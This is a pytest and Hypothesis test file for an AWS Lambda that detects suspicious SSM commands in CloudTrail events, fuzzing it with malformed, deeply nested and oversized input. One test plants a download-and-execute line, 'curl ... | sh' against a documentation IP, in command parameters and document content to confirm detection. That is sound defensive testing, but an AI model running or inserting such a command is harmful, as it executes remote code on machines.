"""Hostile and malformed input through the whole handler and the replay: never a crash.

The Lambda's contract (handler/app.py): bad input is logged with its event id and a reason,
counted (`bad_events`; `ignored` for records that are not SSM calls) and skipped, and the rest
of the batch goes on; only AWS failures raise. An exception on bad input is a retry storm and a
dead-letter entry for an event that will never get better, and a way for an attacker who shapes
a CloudTrail record (user agent, document content, tags, parameters) to blind the detector.

Hypothesis drives the real handler (state and ledger in DynamoDB Local, which enforces
DynamoDB's key and item limits; SNS and Security Hub in moto, so every formatter runs) with
real event files mutated at every depth (wrong types, missing keys, nulls, huge strings, huge
arrays, nesting, timestamps out of range) and with arbitrary payloads; the replay reader gets
arbitrary bytes, gzip of them, and invalid UTF-8 inside gzip.

Inputs that used to crash are pinned by the tests under "deep and huge input" below, and the
properties now send them too: payloads with lists nested thousands deep (one bad event), free-form
JSON (`parameters`, `content`, `tags`) nested past the recursion limit (cut down to a bounded
depth and still detected, see ssm_detect/models/bounds.py), and key fields (account, principal,
document name) too long for a DynamoDB key (bad input, not a retried ValidationException).
"""

from __future__ import annotations

import copy
import gzip
import io
import json
import logging
from collections import Counter
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING, Any

import boto3
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from moto import mock_aws

from ssm_detect.ingest import MAX_LIST_NESTING, BadEvent, Ignored, records_in, to_event
from ssm_detect.local_context import LocalLambdaContext
from ssm_detect.principal import PrincipalKeying
from ssm_detect.processing import Summary, process_payload
from ssm_detect.render.asff import CONTEXT_PREFIX
from ssm_detect.replay.sources import FilteredRecords, Problem, RawRecord, RecordList, read_file
from ssm_detect.ssm_event import SsmEvent
from ssm_detect.wiring import AwsClients, lambda_runtime
from tests.conftest import EVENTS, REGION

if TYPE_CHECKING:
    from tests.dynamodb_local import DynamoDbLocal

pytest_plugins = ["tests.dynamodb_local"]

EXAMPLES: Counter[str] = Counter()
EVENT_FILES = sorted(p.name for p in EVENTS.glob("*.json"))
TEMPLATES = {name: json.loads((EVENTS / name).read_text()) for name in EVENT_FILES}


def examples(count: int) -> settings:
    return settings(
        max_examples=count,
        deadline=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
        derandomize=True,  # the same examples on every run and in CI: failures reproduce
    )


# --- hostile values ------------------------------------------------------------------------------


def nest(depth: int, leaf: object = "x") -> object:
    value = leaf
    for level in range(depth):
        value = [value] if level % 2 else {"k": value}
    return value


scalars = st.one_of(
    st.none(),
    st.booleans(),
    st.integers(),
    st.sampled_from([2**63, -(2**63) - 1, 10**30]),
    st.floats(allow_nan=True, allow_infinity=True),
    st.text(max_size=40),
    st.sampled_from(["", " ", "\n", "\x00", "null", "*", "i-*", "HIDDEN_DUE_TO_SECURITY_REASONS"]),
    st.sampled_from(["\ud800", "arn:aws:iam::111122223333:role/\udfff", "i-\udbff\udfff"]),
)
bad_times = st.one_of(
    st.sampled_from(
        [
            "0001-01-01T00:00:00Z",
            "0001-01-01T00:00:00+01:00",
            "9999-12-31T23:59:59Z",
            "9999-12-31T23:59:59-14:00",
            "1970-01-01T00:00:00Z",
            "1999-12-31T23:59:59Z",
            "2201-01-01T00:00:00Z",
            "+275760-09-13T00:00:00Z",
            "2025-02-30T00:00:00Z",
            "2025-01-01T25:61:61Z",
            "2025-01-01T00:00:00.123456789123456789Z",
            "2025-01-01 00:00:00.000000000",
            "2025-01-01T00:00:00+99:99",
            "",
            "now",
        ]
    ),
    st.integers(),
    st.floats(),
)
# Huge strings: CloudTrail caps nothing a caller can set (user agent, comment, content, tags).
huge_strings = st.builds(
    lambda char, size: char * size,
    st.sampled_from(["a", "é", "\u2028", "🙂", "\n", '"', "\\", "%s", "{"]),
    st.integers(1_000, 300_000),
)
huge_arrays = st.builds(lambda leaf, size: [leaf] * size, scalars, st.integers(100, 20_000))
# Shallow nesting, and nesting far past the recursion limit (pinned by the tests below).
nested = st.builds(
    nest, st.one_of(st.integers(2, 60), st.sampled_from([300, 1_000, 5_000])), scalars
)
json_like = st.recursive(
    scalars,
    lambda inner: st.lists(inner, max_size=5) | st.dictionaries(st.text(max_size=12), inner),
    max_leaves=20,
)


# Every field gets any of these, key fields (account, ARNs, document names) and free-form JSON
# (`parameters`, `content`, `tags`) included: the models bound them (ssm_detect/models/bounds.py).
hostile_values = st.one_of(
    scalars,
    json_like,
    bad_times,
    st.builds(list),
    st.builds(dict),
    huge_strings,
    huge_arrays,
    nested,
)


@st.composite
def mutated_events(draw: st.DrawFn) -> Any:
    """A real event file, then 1-4 mutations anywhere in it."""
    payload = copy.deepcopy(TEMPLATES[draw(st.sampled_from(EVENT_FILES))])
    for _ in range(draw(st.integers(1, 4))):
        _mutate(draw, payload)
    return payload


def _mutate(draw: st.DrawFn, payload: Any) -> None:
    parent: Any = payload
    while True:
        keys = sorted(parent) if isinstance(parent, dict) else list(range(len(parent)))
        if not keys:
            return
        key = draw(st.sampled_from(keys))
        child = parent[key]
        if isinstance(child, dict | list) and child and draw(st.integers(0, 3)):
            parent = child
            continue
        break
    action = draw(st.sampled_from(["drop", "null", "replace", "wrap", "stringify", "retype"]))
    if action == "drop":
        del parent[key]
    elif action == "null":
        parent[key] = None
    elif action == "replace":
        parent[key] = draw(hostile_values)
    elif action == "wrap":
        parent[key] = [child]
    elif action == "stringify":
        parent[key] = json.dumps(child)
    elif isinstance(parent, dict):
        parent[str(key).swapcase()] = parent.pop(key)


# --- the handler, wired like the Lambda ----------------------------------------------------------


@dataclass
class Handler:
    """The real handler; its log lines captured per call."""

    app: Any
    logs: io.StringIO

    def __call__(self, payload: object) -> dict[str, Any]:
        self.logs.seek(0)
        self.logs.truncate()
        result: dict[str, Any] = self.app.lambda_handler(payload, LocalLambdaContext())
        return result

    def log_lines(self) -> list[dict[str, Any]]:
        # one JSON object per "\n" (str.splitlines would also split at U+2028 inside a value)
        return [json.loads(line) for line in self.logs.getvalue().split("\n") if line]


@pytest.fixture(scope="module")
def handler(dynamodb_local: DynamoDbLocal) -> Iterator[Handler]:
    with pytest.MonkeyPatch.context() as patch:
        for name, value in {
            "AWS_ACCESS_KEY_ID": "testing",
            "AWS_SECRET_ACCESS_KEY": "testing",
            "AWS_DEFAULT_REGION": REGION,
            "POWERTOOLS_SERVICE_NAME": "ssm-detect",
            "POWERTOOLS_METRICS_NAMESPACE": "SsmDetect",
        }.items():
            patch.setenv(name, value)
        from handler import app  # noqa: PLC0415 - Powertools reads the environment on import

        with mock_aws():
            topic = boto3.client("sns", region_name=REGION).create_topic(Name="findings")
            env = {
                "STATE_TABLE_NAME": dynamodb_local.fresh_table("hostile"),
                "FINDINGS_TOPIC_ARN": topic["TopicArn"],
                "SECURITY_HUB_ENABLED": "true",
                "AWS_REGION": REGION,
            }
            clients = AwsClients(dynamodb=dynamodb_local.client())
            runtime = lambda_runtime(env, app.logger, "000000000000", clients)
            patch.setattr(app, "runtime", lambda _account: runtime)
            stream = app.logger.registered_handler
            assert isinstance(stream, logging.StreamHandler)
            logs = io.StringIO()
            previous = stream.setStream(logs)
            try:
                yield Handler(app, logs)
            finally:
                stream.setStream(previous)


def check_handled(handler: Handler, payload: object) -> dict[str, Any]:
    """The handler returns (never raises); a payload no rule sends is refused whole with one log
    line (handler/envelope.py); otherwise every record is counted exactly once, and every bad
    one is logged as skipped, with its reason."""
    result = handler(payload)
    lines = handler.log_lines()
    refused = [line for line in lines if line.get("message", "").startswith("refused event")]
    assert len(refused) == (1 if "refused" in result else 0)
    assert result["events_seen"] == result["ssm_events"] + result["ignored"] + result["bad_events"]
    skipped = [line for line in lines if line.get("message") == "skipped bad event"]
    assert len(skipped) == result["bad_events"]
    assert all(line.get("reason") for line in skipped)
    return result


def processed(handler: Handler, payload: object) -> tuple[Summary, list[dict[str, Any]]]:
    """The payload through the processing loop the Lambda path shares (with the handler's
    runtime), as replay and tests hand it lists and files the Lambda path refuses."""
    from handler.telemetry import PowertoolsTelemetry  # noqa: PLC0415

    wired = handler.app.runtime("000000000000")
    handler.logs.seek(0)
    handler.logs.truncate()
    summary = process_payload(
        payload, wired.pipeline, wired.dispatcher, PowertoolsTelemetry(handler.app.logger)
    )
    return summary, handler.log_lines()


@examples(200)
@given(mutated_events())
def test_hostile_handler_survives_mutated_real_events(handler: Handler, payload: Any) -> None:
    EXAMPLES["handler: mutated real events"] += 1
    check_handled(handler, payload)


@examples(120)
@given(
    st.one_of(
        json_like,
        st.builds(
            lambda detail: {
                "detail-type": "AWS API Call via CloudTrail",
                "id": "e",
                "source": "aws.ssm",
                "detail": detail,
            },
            json_like,
        ),
        st.builds(lambda records: {"Records": records}, st.lists(json_like, max_size=20)),
        st.builds(lambda items: items, st.lists(mutated_events(), min_size=1, max_size=5)),
    )
)
def test_hostile_handler_survives_arbitrary_payloads(handler: Handler, payload: Any) -> None:
    EXAMPLES["handler: arbitrary payloads"] += 1
    check_handled(handler, payload)


@examples(300)
@given(mutated_events() | json_like)
def test_hostile_models_parse_or_reject_with_a_one_line_reason(payload: Any) -> None:
    """Envelope and record models: every raw record becomes an SsmEvent, Ignored or a BadEvent
    whose reason is one printable line that does not quote the input back."""
    EXAMPLES["models: envelope and record"] += 1
    for raw in records_in(payload):
        results = (
            [raw]
            if isinstance(raw, BadEvent | Ignored)
            else [to_event(raw, keying) for keying in PrincipalKeying]
        )
        for parsed in results:
            assert isinstance(parsed, SsmEvent | BadEvent | Ignored)
            if isinstance(parsed, BadEvent):
                assert parsed.reason
                assert parsed.reason.isprintable()
                assert len(parsed.reason) <= 400
                assert parsed.event_id.isprintable()


def test_hostile_huge_batch_is_counted_record_by_record(handler: Handler) -> None:
    """50,000 records of junk in one S3-style object. A direct invoke with it is refused whole
    (one line, nothing parsed); the processing loop the Lambda path shares counts every record
    and raises none."""
    junk: list[object] = [
        None,
        1,
        "x",
        [],
        {"eventSource": 5},
        {"eventSource": "ec2.amazonaws.com"},
    ]
    payload = {"Records": junk * 10_000}
    assert check_handled(handler, payload)["refused"]

    summary, lines = processed(handler, payload)
    assert summary.events_seen == 5 * 10_000  # an empty list holds no record
    assert summary.ignored == 2 * 10_000  # an eventSource of 5, and EC2
    skipped = [x for x in lines if x.get("message") == "skipped bad event"]
    assert len(skipped) == summary.bad_events == 3 * 10_000
    EXAMPLES["handler: fixed hostile cases"] += 1


@pytest.mark.parametrize(
    "path",
    [
        ("detail", "userAgent"),
        ("detail", "requestParameters", "comment"),
        ("detail", "errorMessage"),
        ("detail", "someFieldCloudTrailMightAdd"),
        ("detail", "responseElements", "command", "comment"),
    ],
)
@pytest.mark.parametrize("kind", ["huge-string", "5000-levels", "huge-array"])
def test_hostile_values_in_free_text_fields_are_survived(
    handler: Handler, path: tuple[str, ...], kind: str
) -> None:
    payload = copy.deepcopy(TEMPLATES["send_command_success.json"])
    payload["detail"]["eventID"] = f"hostile-{'-'.join(path)}-{kind}"
    value = {
        "huge-string": "\u2028🙂" * 150_000,
        "5000-levels": nest(5000),
        "huge-array": ["x"] * 50_000,
    }[kind]
    parent = payload
    for key in path[:-1]:
        parent = parent[key]
    parent[path[-1]] = value
    check_handled(handler, payload)
    EXAMPLES["handler: fixed hostile cases"] += 1


@pytest.mark.parametrize(
    "moment",
    [
        "0001-01-01T00:00:00Z",
        "9999-12-31T23:59:59Z",
        "1970-01-01T00:00:00Z",
        "2025-13-01T00:00:00Z",
        1740000000,
        None,
    ],
)
def test_hostile_out_of_range_event_times_are_skipped_with_a_reason(
    handler: Handler, moment: object
) -> None:
    payload = copy.deepcopy(TEMPLATES["send_command_success.json"])
    payload["detail"]["eventTime"] = moment
    result = check_handled(handler, payload)
    assert result["bad_events"] == 1
    EXAMPLES["handler: fixed hostile cases"] += 1


# --- deep and huge input: each of these once crashed the handler -------------------------------


def _send_command(**changes: Any) -> dict[str, Any]:
    payload = copy.deepcopy(TEMPLATES["send_command_success.json"])
    payload["detail"].update(changes)
    return payload


def _create_document(**request: Any) -> dict[str, Any]:
    payload = copy.deepcopy(TEMPLATES["create_document_command_new_principal.json"])
    payload["detail"]["requestParameters"].update(request)
    return payload


def _first_call(payload: dict[str, Any], event_id: str) -> dict[str, Any]:
    """The call made by a role no other test uses, under its own event id: the rare-creator
    detection sees a first creation, and the ledger opens a window (so the finding is sent)."""
    detail = payload["detail"]
    detail["eventID"] = event_id
    identity = detail["userIdentity"]
    identity["arn"] = f"arn:aws:sts::111122223333:assumed-role/{event_id}/session"
    identity["sessionContext"]["sessionIssuer"]["arn"] = (
        f"arn:aws:iam::111122223333:role/{event_id}"
    )
    return payload


def _hub_context(detection_id: str, event_id: str) -> dict[str, str]:
    """The context product fields of the Security Hub finding (moto's) that `detection_id`
    raised on `event_id`: what a responder sees."""
    hub = boto3.client("securityhub", region_name=REGION)
    for page in hub.get_paginator("get_findings").paginate():
        for finding in page["Findings"]:
            fields = finding.get("ProductFields", {})
            if fields.get("ssm-detect/detection_id") == detection_id and event_id in fields.get(
                "ssm-detect/event_ids", ""
            ).split(","):
                return {
                    key.removeprefix(CONTEXT_PREFIX): value
                    for key, value in fields.items()
                    if key.startswith(CONTEXT_PREFIX)
                }
    raise AssertionError(f"no {detection_id} finding on {event_id} in Security Hub")


def _skipped_event_ids(handler: Handler) -> list[str]:
    return [
        line.get("correlation_id", "")
        for line in handler.log_lines()
        if line.get("message") == "skipped bad event"
    ]


def test_hostile_deeply_nested_payload_is_skipped_not_raised(handler: Handler) -> None:
    """GIVEN a real SendCommand inside 5,000 nested lists (the replay hands ingest such lists
    from files; a direct invoke with one is refused before anything is parsed) WHEN the
    processing loop gets it THEN ingest.records_in, which walks lists iteratively and opens at
    most MAX_LIST_NESTING of them, reports the over-deep list as one bad event with a reason,
    instead of recursing into RecursionError."""
    payload: object = TEMPLATES["send_command_success.json"]
    for _ in range(5000):
        payload = [payload]
    assert check_handled(handler, payload)["refused"]
    summary, lines = processed(handler, payload)
    assert summary.bad_events == 1
    assert summary.ssm_events == 0
    (skipped,) = [line for line in lines if line.get("message") == "skipped bad event"]
    assert "nested" in skipped["reason"]


def test_hostile_payload_nested_within_the_bound_is_processed(handler: Handler) -> None:
    """The bound takes nothing valid: an event as deep in lists as ingest allows is processed."""
    payload: object = TEMPLATES["send_command_success.json"]
    for _ in range(MAX_LIST_NESTING):
        payload = [payload]
    summary, _ = processed(handler, payload)
    assert (summary.ssm_events, summary.bad_events) == (1, 0)


@pytest.mark.parametrize("where", ["parameters", "content"])
def test_hostile_deep_parameters_or_content_do_not_crash(handler: Handler, where: str) -> None:
    """GIVEN a SendCommand whose `parameters`, or a CreateDocument whose `content`, nests 1,000
    levels (json.dumps in the detections used to raise RecursionError on it) beside a visible
    download-and-execute command
    WHEN the handler gets it
    THEN the call is still detected, not skipped: it ran, and absurd nesting must not blind the
    detector. The model keeps MAX_NESTING levels and replaces anything deeper by DEPTH_MARKER
    (ssm_detect/models/bounds.py), so the shallow command is still inspected, and the finding
    says which field was cut (`nesting_truncated`)."""
    event_id = f"hostile-deep-{where}"
    command = "curl -s http://203.0.113.9/x.sh | sh"
    if where == "parameters":
        detection, findings = "AWS.SSM.SendCommand", "parameter_findings"
        payload = _first_call(_send_command(), event_id)
        payload["detail"]["requestParameters"]["parameters"] = {"commands": [command, nest(1000)]}
    else:
        detection, findings = "AWS.SSM.RareCommandDocumentCreator", "content_findings"
        content = {"mainSteps": [{"inputs": {"runCommand": [command]}}, nest(1000)]}
        payload = _first_call(_create_document(content=content), event_id)
    result = check_handled(handler, payload)
    assert (result["ssm_events"], result["bad_events"]) == (1, 0)
    assert result["findings"].get(detection) == 1
    context = _hub_context(detection, event_id)
    assert context["nesting_truncated"] == where
    assert "download_execute" in context[findings]


def test_hostile_deep_tags_do_not_crash(handler: Handler) -> None:
    """GIVEN a CreateDocument whose `tags` nest 300 levels WHEN the rare-creator finding (which
    carries the tags in its context) is serialised THEN it no longer hits pydantic's "Maximum
    serialization depth exceeded": the model cut the tags to MAX_NESTING levels, the finding is
    raised and delivered, and it says the tags were cut."""
    event_id = "hostile-deep-tags"
    payload = _first_call(_create_document(name="Deep-Tags", tags=nest(300)), event_id)
    result = check_handled(handler, payload)
    assert (result["ssm_events"], result["bad_events"]) == (1, 0)
    assert result["findings"].get("AWS.SSM.RareCommandDocumentCreator") == 1
    context = _hub_context("AWS.SSM.RareCommandDocumentCreator", event_id)
    assert context["nesting_truncated"] == "tags"


@pytest.mark.parametrize(
    "field", ["role-arn", "role-arn-multibyte", "user-name", "account", "recipient-account"]
)
def test_hostile_huge_principal_or_account_is_judged_not_raised(
    handler: Handler, field: str
) -> None:
    """GIVEN a principal or account too long for a DynamoDB key (which caps at 2,048 bytes)
    WHEN the handler gets the event THEN the field is left out and named, the call judged (fail
    toward detection), never a ValidationException that Lambda retries into the dead-letter
    queue. Account ids must be 12 digits, ARNs at most 2,048 characters (IAM's maximum), and the
    principal key built from them at most MAX_PRINCIPAL_KEY_BYTES of UTF-8
    (`role-arn-multibyte`: 1,500 characters, 3,000 bytes; `user-name`: an IAM user without an
    ARN, keyed on its name)."""
    event_id = f"hostile-huge-{field}"
    payload = _send_command(eventID=event_id)
    identity = payload["detail"]["userIdentity"]
    issuer = identity["sessionContext"]["sessionIssuer"]
    match field:
        case "role-arn":
            issuer["arn"] = "arn:aws:iam::111122223333:role/" + "R" * 3000
        case "role-arn-multibyte":
            issuer["arn"] = "arn:aws:iam::111122223333:role/" + "é" * 1500
        case "user-name":
            payload["detail"]["userIdentity"] = {
                "type": "IAMUser",
                "accountId": "111122223333",
                "userName": "U" * 3000,
            }
        case "account":
            payload["detail"]["recipientAccountId"] = "9" * 3000
            identity["accountId"] = "9" * 3000
        case "recipient-account":
            payload["detail"]["recipientAccountId"] = "9" * 3000
    result = check_handled(handler, payload)
    # Fail toward detection: the call is judged (SendCommand fires) and the oddity reported;
    # the stateful detections, which key on account and principal, skip it.
    assert (result["ssm_events"], result["bad_events"]) == (1, 0)
    assert result["findings"]["AWS.SSM.SendCommand"] == 1
    assert _judged_event_ids(handler) == [event_id]


def _judged_event_ids(handler: Handler) -> list[str]:
    return [
        line.get("correlation_id", "")
        for line in handler.log_lines()
        if line.get("message") == "judged event with malformed fields"
    ]


@pytest.mark.parametrize("where", ["request", "response"])
def test_hostile_huge_document_name_is_cut_not_raised(handler: Handler, where: str) -> None:
    """A document name is part of the chain detection's state key: over MAX_KEY_PART_BYTES of
    UTF-8 (1,000 emoji are 1,000 characters but 4,000 bytes), whether the request names the
    document or only the response does, it is cut to 256 characters, named, and judged."""
    event_id = f"hostile-huge-document-name-{where}"
    payload = _send_command(eventID=event_id)
    request = payload["detail"]["requestParameters"]
    if where == "request":
        request["documentName"] = "🙂" * 1000
    else:
        del request["documentName"]
        payload["detail"]["responseElements"]["command"]["documentName"] = "D" * 3000
    result = check_handled(handler, payload)
    assert (result["ssm_events"], result["bad_events"]) == (1, 0)
    assert "AWS.SSM.SendCommand" in result["findings"]
    assert _judged_event_ids(handler) == [event_id]


def test_hostile_huge_instance_ids_are_skipped_not_raised(handler: Handler) -> None:
    payload = _send_command()
    payload["detail"]["requestParameters"]["instanceIds"] = [
        f"i-{n:04d}{'a' * 600}" for n in range(1000)
    ]
    payload["detail"]["responseElements"] = None
    check_handled(handler, payload)


def test_hostile_lone_surrogate_in_principal_is_skipped_not_raised(handler: Handler) -> None:
    payload = _send_command()
    issuer = payload["detail"]["userIdentity"]["sessionContext"]["sessionIssuer"]
    issuer["arn"] = json.loads('"arn:aws:iam::111122223333:role/\\ud800"')
    check_handled(handler, payload)


# --- the replay reader ---------------------------------------------------------------------------


def _read(path: Path) -> list[object]:
    items = list(read_file(path))
    for item in items:
        assert isinstance(item, RawRecord | RecordList | FilteredRecords | Problem)
        if isinstance(item, Problem):
            assert item.reason
            assert "\n" not in item.reason
    return items


replay_bytes = st.one_of(
    st.binary(max_size=300),
    st.builds(gzip.compress, st.binary(max_size=300)),
    st.builds(
        lambda body, cut: gzip.compress(body)[:cut], st.binary(max_size=300), st.integers(0, 40)
    ),
    st.builds(
        lambda prefix, junk: gzip.compress(b'{"Records": [{"eventID": "' + prefix + junk + b'"}]}'),
        st.binary(max_size=20),
        st.sampled_from([b"\xff", b"\xfe\xfe", b"\xc3\x28", b"\xed\xa0\x80", b"\xf4\x90\x80\x80"]),
    ),
    st.builds(
        lambda records, junk: b"\n".join([*(json.dumps(r).encode() for r in records), junk]),
        st.lists(json_like, max_size=5),
        st.binary(max_size=50),
    ),
)


@examples(200)
@given(replay_bytes, st.sampled_from([".json", ".json.gz", ".jsonl", ".jsonl.gz"]))
def test_hostile_replay_reader_never_raises_on_any_bytes(
    tmp_path_factory: pytest.TempPathFactory, data: bytes, suffix: str
) -> None:
    EXAMPLES["replay: arbitrary bytes, gzip, invalid UTF-8"] += 1
    path = tmp_path_factory.mktemp("replay") / f"input{suffix}"
    path.write_bytes(data)
    _read(path)


def test_hostile_replay_reports_invalid_utf8_inside_gzip(tmp_path: Path) -> None:
    path = tmp_path / "bad.json.gz"
    path.write_bytes(gzip.compress(b'{"Records": [{"eventID": "\xff\xfe"}]}'))
    (problem,) = _read(path)
    assert isinstance(problem, Problem)
    assert "UTF-8" in problem.reason


def test_hostile_replay_reports_a_deeply_nested_file(tmp_path: Path) -> None:
    path = tmp_path / "deep.json"
    path.write_text("[" * 5000 + "]" * 5000)
    (problem,) = _read(path)
    assert isinstance(problem, Problem)
    assert problem.reason == "nested too deeply to parse"


def test_hostile_figures_are_reported(capsys: pytest.CaptureFixture[str]) -> None:
    """Not a check: prints how many examples ran (`pytest -s`), for docs/reliability.md."""
    with capsys.disabled():
        print(f"\nhostile-input examples: {dict(EXAMPLES)} total={sum(EXAMPLES.values())}")  # noqa: T201
